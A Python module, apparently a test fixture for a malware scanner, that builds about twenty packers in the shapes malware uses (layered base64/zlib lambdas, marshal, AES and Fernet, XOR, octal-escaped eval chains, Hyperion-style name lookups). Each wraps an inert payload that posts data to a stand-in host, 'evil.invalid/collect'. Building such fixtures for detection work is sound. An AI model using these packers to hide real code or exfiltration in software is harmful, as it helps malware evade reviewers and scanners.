"""Packers in the shapes that malware uses, written small: each wraps an inert payload and gives Python source."""

import base64
import bz2
import codecs
import gzip
import lzma
import marshal
import zlib
from collections.abc import Callable

from cryptography.fernet import Fernet
from cryptography.hazmat.decrepit.ciphers.modes import CFB8
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

PAYLOAD = (
    "import requests\ndef send(data):\n    requests.post('https://evil.invalid/collect', data=data)\nprint('inert')\n"
)
MARK = b"https://evil.invalid/collect"

KEY = bytes(range(32))
BLOCK = bytes(range(16))


def lambda_zlib(text: str) -> str:
    packed = base64.b64encode(zlib.compress(text.encode()))[::-1]
    return (
        f"_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)({packed!r}))"
    )


def lambda_marshal(text: str) -> str:
    code = marshal.dumps(compile(text, "<x>", "exec"))
    packed = base64.b64encode(zlib.compress(code))[::-1]
    return (
        "_ = lambda __ : __import__('marshal').loads(__import__('zlib').decompress("
        f"__import__('base64').b64decode(__[::-1])));exec((_)({packed!r}))"
    )


def many_layers(text: str, depth: int = 50) -> str:
    for _ in range(depth):
        text = lambda_zlib(text)
    return text


def lzma_spam(text: str) -> str:
    packed = lzma.compress(bz2.compress(gzip.compress(text.encode())))
    return f"import lzma,bz2,gzip\nexec(gzip.decompress(bz2.decompress(lzma.decompress({packed!r}))))"


def fernet(text: str) -> str:
    key = base64.urlsafe_b64encode(KEY)
    token = Fernet(key).encrypt(text.encode())
    return f"from fernet import Fernet\nexec(Fernet({key!r}).decrypt({token!r}))"


def aes(mode: str) -> Callable[[str], str]:
    def pack(text: str) -> str:
        data = text.encode()
        padded = data + bytes([16 - len(data) % 16]) * (16 - len(data) % 16)
        kinds: dict[str, modes.Mode] = {
            "CBC": modes.CBC(BLOCK),
            "ECB": modes.ECB(),
            "CTR": modes.CTR(BLOCK[:8] + bytes(8)),
            "GCM": modes.GCM(BLOCK[:12]),
            "CFB": CFB8(BLOCK),
        }
        engine = Cipher(algorithms.AES(KEY), kinds[mode]).encryptor()
        secret = engine.update(padded if mode in ("CBC", "ECB") else data) + engine.finalize()
        extra = {"CBC": f", {BLOCK!r}", "CFB": f", iv={BLOCK!r}", "ECB": "", "CTR": f", nonce={BLOCK[:8]!r}"}
        extra["GCM"] = f", nonce={BLOCK[:12]!r}"
        return (
            "from Crypto.Cipher import AES\nfrom Crypto.Util.Padding import unpad\nimport base64\n"
            f"cipher = AES.new({KEY!r}, AES.MODE_{mode}{extra[mode]})\n"
            f"exec(cipher.decrypt(base64.b64decode({base64.b64encode(secret)!r})))"
        )

    return pack


def xor_comprehension(text: str) -> str:
    data = bytes(b ^ KEY[i % 7 + 3] for i, b in enumerate(text.encode()))
    return f"k={KEY[3:10]!r}\nd={data!r}\nexec(bytes([c ^ k[i % len(k)] for i, c in enumerate(d)]).decode())"


def xor_loop(text: str) -> str:
    data = [ord(c) ^ 0x2A for c in text]
    return f"out = ''\nfor n in {data!r}:\n    out += chr(n ^ 42)\nexec(out)"


def xor_cycle(text: str) -> str:
    data = bytes(b ^ k for b, k in zip(text.encode(), (b"key" * 1000), strict=False))
    return f"from itertools import cycle\nexec(bytes(a ^ b for a, b in zip({data!r}, cycle(b'key'))))"


def chr_sum(text: str) -> str:
    return "exec(" + "+".join(f"chr({ord(c)})" for c in text) + ")"


def map_chr(text: str) -> str:
    return f"exec(''.join(map(chr, {[ord(c) for c in text]})))"


def shifted(text: str) -> str:
    moved = "".join(chr(ord(c) + 3) for c in text)
    return f"def d(s):\n    r = ''\n    for c in s:\n        r += chr(ord(c) - 3)\n    return r\nexec(d({moved!r}))"


def octal_names(text: str) -> str:
    """Names built from escapes, everything by eval: the form of many stealers."""

    def octal(word: str) -> str:
        return "".join(f"\\{ord(c):o}" for c in word)

    packed = base64.b64encode(codecs.encode(text, "rot13").encode()).decode()
    return (
        f'_____=eval("{octal("eval")}");____=_____("{octal("compile")}")\n'
        f"""______=_____(____("{octal("__import__('base64')")}","",_____.__name__))\n"""
        f"""_______=_____(____("{octal("__import__('codecs')")}","",_____.__name__))\n"""
        f'__={packed!r}\n_____("{octal("exec")}")(_______.decode(______.b64decode(__).decode(),"{octal("rot13")}"))'
    )


def four_parts(text: str) -> str:
    """Four strings, two of them through rot13, joined by escaped evals."""
    packed = base64.b64encode(text.encode()).decode()
    size = len(packed) // 4
    parts = [packed[:size], packed[size : 2 * size], packed[2 * size : 3 * size], packed[3 * size :]]
    return (
        "import base64, codecs\n"
        f"magic = {parts[0]!r}\nlove = {codecs.encode(parts[1], 'rot13')!r}\n"
        f"god = {parts[2]!r}\ndestiny = {codecs.encode(parts[3], 'rot13')!r}\n"
        r"joy = '\x72\x6f\x74\x31\x33'" + "\n"
        r"trust = eval('\x6d\x61\x67\x69\x63') + eval('\x63\x6f\x64\x65\x63\x73\x2e\x64\x65\x63\x6f\x64\x65"
        r"\x28\x6c\x6f\x76\x65\x2c\x20\x6a\x6f\x79\x29') + eval('\x67\x6f\x64') + codecs.decode(destiny, joy)" + "\n"
        r"eval(compile(base64.b64decode(eval('\x74\x72\x75\x73\x74')),'<string>','exec'))"
    )


def getattr_bytes(text: str) -> str:
    def spelled(word: str) -> str:
        return f"bytes({list(word.encode())}).decode()"

    packed = list(zlib.compress(text.encode()))
    return (
        f"getattr(__import__({spelled('builtins')}), {spelled('exec')})("
        f"getattr(__import__({spelled('zlib')}), {spelled('decompress')})(bytes({packed})))"
    )


def instance_methods(text: str) -> str:
    """A class whose methods decode: state in attributes, the sink behind an alias."""
    packed = base64.b85encode(text.encode()[::-1]).decode()
    return (
        "from builtins import *\nimport base64\n"
        "run, join = exec, str\n"
        "class Walker:\n"
        "    def __init__(self, data):\n        self.data = data\n        self.turn(step=-1)\n"
        "    def turn(self, step=1):\n        self.plain = base64.b85decode(self.data)[::step]\n"
        "    def go(self):\n        run(self.plain)\n"
        f"Walker({packed!r}).go()"
    )


def globals_by_name(text: str) -> str:
    packed = text.encode().hex()
    return (
        "g = globals()\ng['q'] = __builtins__.__dict__['ex' + 'ec'] if False else getattr(__builtins__, 'cexe'[::-1])\n"
        f"q(bytes.fromhex({packed!r}))"
    )


def picked_by_place(text: str) -> str:
    """Names in namespaces, functions picked out of listings, every literal evaluated: as Hyperion writes them."""

    def picked(module: str, name: str) -> str:
        holder = f"i({module[::-1]!r}[::+-+-(-(+1))])"
        return f"g({holder},d({holder})[d({holder}).index({name[::-1]!r}[::-1])])"

    lines = ["globals()['v']=vars", "v()['g']=getattr", "v()['d']=dir", "v()['i']=__import__"]
    lines += [f"v()['u']={picked('binascii', 'unhexlify')}", f"v()['e']={picked('builtins', 'eval')}"]
    lines += [f"v()['x'[::+-+-(-(+e('8_5-(8_4)')))]]={picked('builtins', 'exec')}"]
    return "\n".join([*lines, f"x(e(u({repr(text).encode().hex().encode()!r}).decode('8ftu'[::-1])))"])


def substitution(text: str) -> str:
    table = {c: chr(0x4E00 + i) for i, c in enumerate(sorted(set(text)))}
    hidden = "".join(table[c] for c in text)
    back = {v: k for k, v in table.items()}
    return f"t = {back!r}\nexec(''.join([t[c] for c in {hidden!r}]))"


def partial_reduce(text: str) -> str:
    pieces = [text[i : i + 9] for i in range(0, len(text), 9)]
    return f"from functools import reduce\nimport operator as o\nexec(reduce(o.add, {pieces!r}))"


PACKERS: dict[str, Callable[[str], str]] = {
    "reversed base64 zlib in a lambda": lambda_zlib,
    "marshal in a lambda": lambda_marshal,
    "lzma of bz2 of gzip": lzma_spam,
    "Fernet": fernet,
    **{f"AES {mode}": aes(mode) for mode in ("CBC", "ECB", "CTR", "GCM", "CFB")},
    "XOR comprehension": xor_comprehension,
    "XOR loop": xor_loop,
    "XOR with a cycled key": xor_cycle,
    "sum of chr": chr_sum,
    "map of chr": map_chr,
    "shifted characters in a function": shifted,
    "names by escapes": octal_names,
    "four parts": four_parts,
    "getattr of byte lists": getattr_bytes,
    "methods of an instance": instance_methods,
    "globals and builtins by name": globals_by_name,
    "functions picked out of listings": picked_by_place,
    "substitution table": substitution,
    "reduce of pieces": partial_reduce,
}
